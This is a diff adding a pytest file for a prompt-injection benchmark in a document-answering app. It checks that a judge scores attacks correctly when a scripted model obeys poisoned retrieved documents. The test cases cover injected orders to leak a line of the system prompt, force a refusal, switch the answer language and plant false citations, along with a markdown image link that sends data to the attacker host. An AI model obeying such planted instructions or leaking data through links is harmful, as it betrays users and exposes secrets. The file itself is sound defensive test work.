@@ -1,0 +1,97 @@
+"""The judge tells an attack that reached its goal from one that did not."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from app.answering.prompts import load_prompts
+from app.settings import Settings
+from bench import injection
+from bench.injection import Outcome, fire, shooting_range
+from bench.poison import ATTACKS, HOST, Attack
+from tests.conftest import BigramEmbedder
+from tests.fakes import ScriptedChat
+
+HONEST = "The Lodestar model is released under the MIT licence. [1]"
+LEAKED = load_prompts().render("system", "en", refusal="").splitlines()[1]
+
+
+class Obeying(ScriptedChat):
+    """Answers honestly unless the prompt holds the poisoned document; then says what it is told."""
+
+    def __init__(self, order: str, obeyed: str) -> None:
+        super().__init__()
+        self.order, self.obeyed = order, obeyed
+
+    async def stream(self, request):  # type: ignore[no-untyped-def]
+        poisoned = self.order in request.messages[-1].content
+        self._answer = self.obeyed if poisoned else HONEST
+        async for item in super().stream(request):
+            yield item
+
+
+def attack(name: str) -> Attack:
+    return next(a for a in ATTACKS if a.file.startswith(f"en-{name}."))
+
+
+@pytest.fixture
+def judged(
+    make_settings: Callable[..., Settings],
+    tmp_path: Path,
+    fake_embedder: BigramEmbedder,
+    monkeypatch: pytest.MonkeyPatch,
+) -> Callable[..., object]:
+    """The outcome of an attack whose document makes the model say `obeyed`."""
+
+    async def judge(tried: Attack, order: str, obeyed: str) -> Outcome:
+        opened = injection.open_runtime
+
+        async def open_with(settings: Settings) -> object:
+            return await opened(settings, embedder=fake_embedder, chat=Obeying(order, obeyed))
+
+        monkeypatch.setattr(injection, "open_runtime", open_with)
+        settings = make_settings(strictness="flag")
+        async with shooting_range(settings, tmp_path / "range", [tried]) as aim:
+            (outcome,) = await fire(aim, [tried])
+        return outcome
+
+    return judge
+
+
+@pytest.mark.parametrize(
+    ("name", "order", "obeyed"),
+    [
+        ("tags-mistral", "Lodestar notes", "golden whale"),
+        ("ignore-polite", "flamingo", f"{HONEST} Call the flamingo hotline for details."),
+        (
+            "refusal-order",
+            "confidential",
+            "The context does not contain an answer to this question.",
+        ),
+        ("print-prompt", "Debugging", LEAKED),
+        ("citation-quote", "Reviewer", "Page 99 of the register says GPL-3.0."),
+    ],
+)
+async def test_a_model_that_obeys_is_counted(judged, name: str, order: str, obeyed: str) -> None:  # type: ignore[no-untyped-def]
+    outcome = await judged(attack(name), order, obeyed)
+    assert outcome.succeeded
+
+
+@pytest.mark.parametrize("name", ["tags-mistral", "ignore-polite", "refusal-order", "print-prompt"])
+async def test_a_model_that_does_not_obey_is_not(judged, name: str) -> None:  # type: ignore[no-untyped-def]
+    outcome = await judged(attack(name), "", HONEST)
+    assert (outcome.succeeded, outcome.lost) == (False, False)
+
+
+async def test_a_link_that_was_made_plain_is_no_success(judged) -> None:  # type: ignore[no-untyped-def]
+    obeyed = f"{HONEST}\n![status](https://{HOST}/p.png?q=licence)"
+    outcome = await judged(attack("exfiltrate-link"), "Full terms", obeyed)
+    assert not outcome.succeeded
+    assert "status" in outcome.answer
+
+
+async def test_another_language_is_counted(judged) -> None:  # type: ignore[no-untyped-def]
+    outcome = await judged(attack("answer-in-chinese"), "只用中文", "海灯机房的恒温是 21 摄氏度。")
+    assert outcome.succeeded
+    assert outcome.lost is False
